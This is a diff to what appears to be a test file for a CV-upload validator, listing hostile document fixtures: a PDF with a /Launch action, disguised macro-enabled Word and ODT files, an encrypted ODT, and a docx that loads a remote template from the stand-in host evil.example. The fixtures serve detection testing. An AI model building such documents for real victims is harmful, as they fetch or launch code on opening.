@@ -115,9 +115,10 @@ FILES = (
     ("cv.pdf", PDF.replace(b"obj<<", b"obj<</S /Launch"), "macros"),
     ("cv.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "n’est pas un PDF"),
     # A document with macros, renamed, its program too.
-    ("cv.docx", archive({"[Content_Types].xml": "ms-word.document.macroEnabled", "word/document.xml": ""}), "macros"),
+    ("cv.docx", archive({"[Content_Types].xml": "<T C='ms-word.document.macroEnabled'/>", "word/document.xml": ""}),
+     "macros"),
     ("cv.odt", archive({"mimetype": ODT_TYPE, "content.xml": "", "Scripts/python/a.py": ""}), "macros"),
-    ("cv.odt", archive({"mimetype": ODT_TYPE, "content.xml": "", "META-INF/manifest.xml": "<m:encryption-data/>"}),
+    ("cv.odt", archive({"mimetype": ODT_TYPE, "content.xml": "", "META-INF/manifest.xml": "<encryption-data/>"}),
      "mot de passe"),
     ("cv.docx", archive({"[Content_Types].xml": "", "word/document.xml": "", "word/_rels/settings.xml.rels":
      '<R Type="x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>'}), "autre site"),
